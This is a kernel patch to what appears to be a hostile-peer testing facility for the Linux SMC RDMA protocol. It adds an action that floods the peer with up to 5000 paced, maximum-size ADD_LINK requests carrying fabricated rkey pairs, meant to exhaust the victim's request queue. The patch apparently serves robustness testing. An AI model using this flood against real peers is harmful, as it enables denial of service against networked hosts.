@@ -62,6 +62,7 @@ enum smc_hostile_act {
 	SMC_HA_OFFSET,		/* RDMA writes ARG bytes further */
 	SMC_HA_BURST,		/* then ARG malformed messages on the link */
 	SMC_HA_SPRAY,		/* then ARG CDCs at the peer's next tokens */
+	SMC_HA_ADDLINK,		/* LLC: then ARG ADD_LINK requests */
 	SMC_HA_NUM
 };
 
@@ -95,6 +96,7 @@ static const struct smc_hostile_act_def smc_hostile_acts[SMC_HA_NUM] = {
 	[SMC_HA_OFFSET] = { "offset", SMC_HL_BIT(CDC), true },
 	[SMC_HA_BURST] = { "burst", SMC_HL_BIT(CDC), true, true },
 	[SMC_HA_SPRAY] = { "spray", SMC_HL_BIT(CDC), true, true },
+	[SMC_HA_ADDLINK] = { "addlink", SMC_HL_BIT(LLC), true },
 };
 
 #define SMC_HOSTILE_RULES	32
@@ -284,6 +286,94 @@ static void smc_hostile_llc_setlen(u8 *buf, u32 val)
 	}
 }
 
+#define SMC_HOSTILE_ADDLINK_MAX	5000
+
+struct smc_hostile_addlink {
+	struct work_struct work;
+	struct smc_lgr *lgr;	/* a reference */
+	struct smc_link *link;
+	u32 n;
+};
+
+/*
+ * ADD_LINK requests that a peer must answer or refuse, each as long as
+ * the link group's version allows (v2: all 255 rkey pairs, 4152 bytes),
+ * one after the other: every one the victim takes costs it a queue entry
+ * of that size until it is answered.
+ */
+static void smc_hostile_addlink_work(struct work_struct *work)
+{
+	struct smc_hostile_addlink *a = container_of(work,
+						     struct smc_hostile_addlink,
+						     work);
+	struct smc_llc_rkey_pair *pairs;
+	struct smc_link *link = a->link;
+	struct smc_llc_msg m = {};
+	u32 i, sent = 0;
+	int len = 0;
+	u8 *buf;
+
+	pairs = kcalloc(SMC_LLC_ADD_LINK_V2_MAX_RKEYS, sizeof(*pairs),
+			GFP_KERNEL);
+	buf = kmalloc(SMC_LLC_V2_MAX_LEN, GFP_KERNEL);
+	if (!pairs || !buf)
+		goto out;
+	for (i = 0; i < SMC_LLC_ADD_LINK_V2_MAX_RKEYS; i++) {
+		pairs[i].rkey = 0x1000 + i;
+		pairs[i].rkey_new = 0x2000 + i;
+		pairs[i].vaddr_new = 0x100000ULL * (i + 1);
+	}
+	m.type = SMC_LLC_ADD_LINK;
+	memcpy(m.add_link.mac, link->mac, SMC_LLC_MAC_LEN);
+	memcpy(m.add_link.gid, link->gid, SMC_LLC_GID_LEN);
+	m.add_link.qpn = link->qpn;
+	m.add_link.qp_mtu = link->path_mtu;
+	m.add_link.psn = link->psn;
+	if (a->lgr->version == SMC_V2) {
+		m.version = SMC_LLC_VERSION_V2;
+		m.add_link.has_ext = true;
+		m.add_link.v2_direct = true;
+		memcpy(m.add_link.target_gid, link->gid, SMC_LLC_GID_LEN);
+		m.add_link.num_rkeys = SMC_LLC_ADD_LINK_V2_MAX_RKEYS;
+		m.add_link.rkeys = pairs;
+	} else {
+		m.version = SMC_LLC_VERSION_V1;
+	}
+	/* after the message that triggered us */
+	msleep(500);
+	for (i = 0; i < a->n; i++) {
+		m.add_link.link_num = 2 + i % 200;
+		len = smc_llc_encode(&m, buf, SMC_LLC_V2_MAX_LEN);
+		if (len < 0 || smc_wr_send(link, buf, len, 0, 0, HZ))
+			break;
+		sent++;
+		/* paced, so that the victim's queue of 32 takes them all */
+		if (i % 8 == 7)
+			usleep_range(2000, 3000);
+	}
+out:
+	pr_info("smc hostile: addlink: %u ADD_LINK requests of %d bytes sent (%u asked)\n",
+		sent, len, a->n);
+	kfree(buf);
+	kfree(pairs);
+	smc_lgr_put(a->lgr);
+	kfree(a);
+}
+
+static void smc_hostile_addlink(struct smc_link *link, u32 n)
+{
+	struct smc_hostile_addlink *a = kzalloc(sizeof(*a), GFP_ATOMIC);
+
+	if (!a)
+		return;
+	INIT_WORK(&a->work, smc_hostile_addlink_work);
+	a->lgr = link->lgr;
+	a->link = link;
+	a->n = min_t(u32, n, SMC_HOSTILE_ADDLINK_MAX);
+	kref_get(&a->lgr->ref);
+	queue_work(smc_hostile_wq, &a->work);
+}
+
 bool __smc_hostile_llc(struct smc_link *link, u8 *buf, int *len)
 {
 	struct smc_hostile_rule *r;
@@ -319,6 +409,9 @@ bool __smc_hostile_llc(struct smc_link *link, u8 *buf, int *len)
 	case SMC_HA_CORRUPT:
 		if (arg < *len)
 			buf[arg] ^= 0xff;
+		break;
+	case SMC_HA_ADDLINK:
+		smc_hostile_addlink(link, arg);
 		break;
 	}
 	return false;
